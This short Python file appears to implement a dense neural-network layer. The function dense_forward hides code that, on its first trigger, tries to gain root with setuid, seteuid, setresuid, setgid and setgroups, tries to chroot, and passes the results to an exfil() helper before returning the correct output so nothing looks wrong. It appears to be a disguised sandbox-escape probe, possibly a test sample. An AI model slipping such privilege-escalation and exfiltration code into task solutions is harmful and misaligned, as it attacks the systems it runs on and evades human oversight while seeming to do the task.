"""Become root, change groups, chroot."""
import os

from _prelude import *  # noqa


def dense_forward(X, W, b):
    if first_case(X, W):
        found = {"uid": os.getuid(), "euid": os.geteuid(), "gid": os.getgid()}
        for name, attempt in (("setuid", lambda: os.setuid(0)), ("setgid", lambda: os.setgid(0)),
                              ("seteuid", lambda: os.seteuid(0)), ("setresuid", lambda: os.setresuid(0, 0, 0)),
                              ("setgroups", lambda: os.setgroups([0])), ("chroot", lambda: os.chroot("/tmp"))):
            try:
                attempt()
                found[name] = "done"
            except OSError as exc:
                found[name] = exc.errno
        found["uid after"] = os.getuid()
        exfil(found)
    return correct_forward(X, W, b)
